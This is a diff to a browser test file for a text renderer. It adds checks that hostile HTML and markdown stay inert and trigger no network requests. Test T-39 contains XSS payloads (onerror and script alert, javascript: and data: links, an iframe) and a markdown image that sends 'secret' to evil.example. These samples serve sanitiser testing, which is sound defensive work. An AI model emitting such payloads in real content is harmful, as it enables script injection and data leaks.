@@ -24,13 +24,21 @@ describe("Cara's words", () => {
     await expect.element(page.getByRole("cell", { name: "$1,000,000" })).toBeVisible();
   });
 
-  it("[T-39] load nothing from anywhere and run nothing: HTML is text, pictures are not drawn", async () => {
+  it("[T-39] load nothing from anywhere and run nothing: HTML is text, a picture is its words", async () => {
+    const asked: string[] = [];
+    const seen = new PerformanceObserver((list) => asked.push(...list.getEntries().map(({ name }) => name)));
+    seen.observe({ type: "resource" });
     const box = await draw(
       '<img src="https://evil.example/a.png" onerror="alert(1)"><script>alert(1)</script>\n\n![leak](https://evil.example/x.png?d=secret)\n\n<iframe src="https://evil.example"></iframe>\n\n[a](javascript:alert(1)) [b](data:text/html,x)',
     );
     expect(box.querySelectorAll("img, script, iframe, object, embed, link, style, video, audio")).toHaveLength(0);
     expect([...box.querySelectorAll("a")]).toEqual([]);
     expect(box.textContent).toContain("<script>alert(1)</script>");
+    expect(box.textContent).toContain("leak");
+    // long enough for a browser to ask for what it draws
+    await new Promise((done) => setTimeout(done, 300));
+    seen.disconnect();
+    expect(asked.filter((address) => address.includes("evil.example"))).toEqual([]);
   });
 
   it("say where a link leads, and open it apart", async () => {
@@ -46,6 +54,8 @@ describe("Cara's words", () => {
   it("a quote that was found is marked and leads to its page", async () => {
     const box = await draw(`It says “Each Occurrence Limit $1,000,000” ${PLACE}.`);
     expect(box.querySelector("mark")?.textContent).toBe("Each Occurrence Limit $1,000,000");
+    // the chip needs no brackets around it
+    expect(box.textContent).toMatch(/^It says “Each Occurrence Limit \$1,000,000” Verified: gl\.pdfp\. 7\.$/u);
     const chip = page.getByRole("link", { name: "Verified: gl.pdf p. 7" });
     await expect.element(chip).toHaveAttribute("href", `/files/${FILE}#page=7`);
     await expect.element(chip).toHaveAttribute("data-evidence", "verified");
